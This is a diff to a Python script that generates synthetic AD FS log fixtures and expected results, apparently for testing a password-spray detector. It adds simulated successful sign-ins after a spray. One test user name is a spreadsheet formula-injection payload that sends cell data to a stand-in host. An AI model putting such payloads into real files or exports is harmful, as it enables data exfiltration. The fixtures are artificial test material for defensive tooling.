@@ -210,7 +210,7 @@ def claims_501(instance, pairs):
 
 class Farm:
     def __init__(self):
-        self.logs, self.expected, self.dc_lockouts = {}, [], []
+        self.logs, self.expected, self.dc_lockouts, self.successes = {}, [], [], []
 
     def log(self, server, locale='en'):
         return self.logs.setdefault(server, Log(server, locale))
@@ -246,6 +246,22 @@ class Farm:
                       (RC + 'x-ms-endpoint-absolute-path', '/adfs/services/trust/2005/usernamemixed')]
         log.adfs(t + 4 * ms, 501, claims_501(instance, claims))
         self.expect(log, t, user, submitter, outcome)
+
+    def success_2016(self, log, t, user, ip):
+        activity = str(uuid.uuid5(uuid.NAMESPACE_DNS, f'ok{log.server}{t}{user}'))
+        instance = str(uuid.uuid5(uuid.NAMESPACE_URL, f'ok{log.server}{t}{user}'))
+        ms = datetime.timedelta(milliseconds=1)
+        log.adfs(t, 403, [instance, activity, t.strftime('%Y-%m-%d %H:%M:%S'), ip, 'POST', '/adfs/ls/', '', '443',
+                          '10.0.0.5', 'Mozilla/5.0', '1234'], failure=False)
+        log.adfs(t + ms, 1202, [activity, audit_xml('FreshCredentialAudit', user, ip).replace(
+            '<AuditResult>Failure</AuditResult>', '<AuditResult>Success</AuditResult>').replace(
+            'CredentialValidationError', 'None')], failure=False)
+        log.adfs(t + 2 * ms, 412, [instance, activity, USERNAME_TOKEN, 'urn:federation:MicrosoftOnline'],
+                 failure=False)
+        log.adfs(t + 3 * ms, 501, claims_501(instance, [
+            ('http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn', user), (RC + 'x-ms-client-ip', ip)]),
+            failure=False)
+        self.successes.append({'user': user, 'ip': ip, 'time': iso(t)})
 
     def extranet_lockout(self, log, t, user, ip, count):
         activity = str(uuid.uuid5(uuid.NAMESPACE_DNS, f'lock{log.server}{t}{user}'))
@@ -308,10 +324,9 @@ def build(out):
                           forwarded='2001:db8::1234')
     # a user name typed to be run as a spreadsheet formula
     farm.attempt_2016(a2, BASE + 135 * minute, '=HYPERLINK("http://x.example/?"&A1)@contoso.com', '203.0.113.66')
-    # a success after the spray (412): not an attempt
-    a1.adfs(BASE + 140 * minute, 412, [str(uuid.uuid5(uuid.NAMESPACE_DNS, 'instance-412')),
-                                       str(uuid.uuid5(uuid.NAMESPACE_DNS, 'activity-412')), USERNAME_TOKEN,
-                                       'urn:federation:MicrosoftOnline'], failure=False)
+    # after the spray, the sprayer gets in as alice (412 + 1202 + 501 with her UPN): not an attempt, but the summary
+    # must say that a success followed her failure from the same address
+    farm.success_2016(a1, BASE + 140 * minute, 'alice@contoso.com', '203.0.113.50')
 
     old = farm.log('ADFS-OLD.fabrikam.fr', 'fr')
     farm.attempt_2012r2(old, BASE + 10 * minute, 'marie@fabrikam.fr', '192.0.2.44')
@@ -370,7 +385,8 @@ def build(out):
     expected = sorted(farm.expected, key=lambda e: (e['time'], e['server']))
     with open(os.path.join(out, 'expected.json'), 'w') as f:
         json.dump({'attempts': expected, 'events': counts, 'dc_lockouts': farm.dc_lockouts,
-                   'dc_failures': {'bob.o-neil@contoso-corp.com': 5}}, f, indent=1, ensure_ascii=False)
+                   'dc_failures': {'bob.o-neil@contoso-corp.com': 5}, 'successes': farm.successes}, f, indent=1,
+                  ensure_ascii=False)
 
 
 if __name__ == '__main__':
